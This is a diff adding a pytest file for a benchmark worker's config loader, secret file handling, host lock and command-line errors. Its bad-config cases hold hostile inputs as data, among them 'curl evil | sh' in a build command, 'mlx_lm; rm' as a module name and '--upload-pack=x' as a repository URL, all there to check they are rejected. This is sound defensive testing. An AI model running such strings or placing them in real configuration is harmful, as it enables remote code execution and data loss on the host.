@@ -1,0 +1,141 @@
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from worker.agent import AgentError, host_lock, read_secret, write_secret
+from worker.config import ConfigError, load_host_config
+
+GOOD = """
+name = "studio-1"
+labels = ["lab:home"]
+state_dir = "state"
+[models]
+llama-3b = "models/llama"
+[repositories.mlx-lm]
+url = "../src/mlx-lm"
+module = "mlx_lm"
+adapter = "mlx-lm"
+[repositories.mlx-lm.recipes.editable]
+command = ["{python}", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "-e", "."]
+env = {CMAKE_ARGS = "-DX=1"}
+"""
+
+
+def test_worker_toml_parses_with_paths_relative_to_the_file(tmp_path: Path) -> None:
+    path = tmp_path / "etc" / "worker.toml"
+    path.parent.mkdir()
+    path.write_text(GOOD)
+    config = load_host_config(path)
+    assert config.name == "studio-1" and config.labels == ("lab:home",)
+    assert config.models == {"llama-3b": (tmp_path / "etc" / "models" / "llama").resolve()}
+    repo = config.repositories["mlx-lm"]
+    assert repo.url == str((tmp_path / "src" / "mlx-lm").resolve())
+    assert repo.recipes["editable"].command[0] == "{python}"
+    assert repo.recipes["editable"].env == {"CMAKE_ARGS": "-DX=1"}
+    assert config.state_dir == (tmp_path / "etc" / "state").resolve()
+    assert config.secret_path == path.resolve().with_name("worker.secret")
+    assert config.recipes_offered() == {"mlx-lm": {"recipes": ["editable"]}}
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (('name = "studio-1"', 'name = "../etc"'), "name: give the host a plain name"),
+        (('labels = ["lab:home"]', 'labels = ["a b"]'), "not a valid label: a b"),
+        (('url = "../src/mlx-lm"', 'url = "--upload-pack=x"'), "must not start with '-'"),
+        (
+            (
+                'command = ["{python}", "-m", "pip", "install", "--no-deps", '
+                '"--no-build-isolation", "-e", "."]',
+                'command = "pip install -e . && curl evil | sh"',
+            ),
+            "command must be a list of strings",
+        ),
+        (('adapter = "mlx-lm"', 'adapter = "shell"'), "adapter must be one of"),
+        (('module = "mlx_lm"', 'module = "mlx_lm; rm"'), "must be a Python module name"),
+        (('state_dir = "state"', "state_dir = 3"), "state_dir must be a path"),
+        (('name = "studio-1"', 'name = "s"\nsurprise = 1'), "unknown top-level keys"),
+        (("[models]", "[models\n"), "not valid TOML"),
+    ],
+)
+def test_bad_worker_toml_is_one_clear_line(
+    tmp_path: Path, change: tuple[str, str], message: str
+) -> None:
+    path = tmp_path / "worker.toml"
+    path.write_text(GOOD.replace(*change, 1))
+    with pytest.raises(ConfigError, match=message.replace("(", r"\(")) as raised:
+        load_host_config(path)
+    assert "\n" not in str(raised.value) and str(path) in str(raised.value)
+
+
+def test_repository_without_recipes_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "worker.toml"
+    path.write_text('name = "h"\n[repositories.r]\nurl = "https://example.org/r.git"\n')
+    with pytest.raises(ConfigError, match="define at least one build recipe"):
+        load_host_config(path)
+
+
+def test_secret_file_is_owner_only_and_checked(tmp_path: Path) -> None:
+    path = tmp_path / "worker.secret"
+    write_secret(path, {"api": "http://x", "worker_id": "w1", "secret": "cbw_w1_abc"})
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert read_secret(path)["secret"] == "cbw_w1_abc"
+    os.chmod(path, 0o644)
+    with pytest.raises(AgentError, match="readable by others"):
+        read_secret(path)
+    with pytest.raises(AgentError, match="not enrolled"):
+        read_secret(tmp_path / "missing.secret")
+
+
+def test_host_lock_admits_one_agent_at_a_time(tmp_path: Path) -> None:
+    lock = tmp_path / "host.lock"
+    with host_lock(lock, wait=lambda: False) as held:
+        assert held
+        # A second agent (another open file description, as another process would have).
+        with host_lock(lock, wait=lambda: False) as second:
+            assert not second
+        other_process = subprocess.run(
+            [
+                "python3",
+                "-c",
+                "import fcntl, os, sys; fd = os.open(sys.argv[1], os.O_RDWR);"
+                "fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)",
+                str(lock),
+            ],
+            capture_output=True,
+            check=False,
+        )
+        assert other_process.returncode != 0 and b"BlockingIOError" in other_process.stderr
+    with host_lock(lock, wait=lambda: False) as again:
+        assert again
+
+
+def test_worker_command_bad_input(coldbench_cmd: list[str], tmp_path: Path) -> None:
+    def worker(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [*coldbench_cmd, "worker", *args],
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+            cwd=tmp_path,
+        )
+
+    done = worker("--api", "http://127.0.0.1:9", "--config", "missing.toml")
+    assert done.returncode == 2 and "missing.toml: no such file" in done.stderr
+    (tmp_path / "worker.toml").write_text('name = "h"\n')
+    done = worker("--api", "ftp://x", "--config", "worker.toml")
+    assert done.returncode == 2 and "give an http:// or https:// URL" in done.stderr
+    done = worker("--api", "http://127.0.0.1:9", "--config", "worker.toml")
+    assert done.returncode == 1 and "not enrolled" in done.stderr
+    done = worker("--api", "http://127.0.0.1:9", "--config", "worker.toml", "--enroll", "nope")
+    assert done.returncode == 2 and "not an enrollment token" in done.stderr
+    token = "cbe_" + "x" * 20
+    done = worker("--api", "http://127.0.0.1:9", "--config", "worker.toml", "--enroll", token)
+    assert done.returncode == 1 and "cannot reach http://127.0.0.1:9" in done.stderr
+    assert not (tmp_path / "worker.secret").exists()
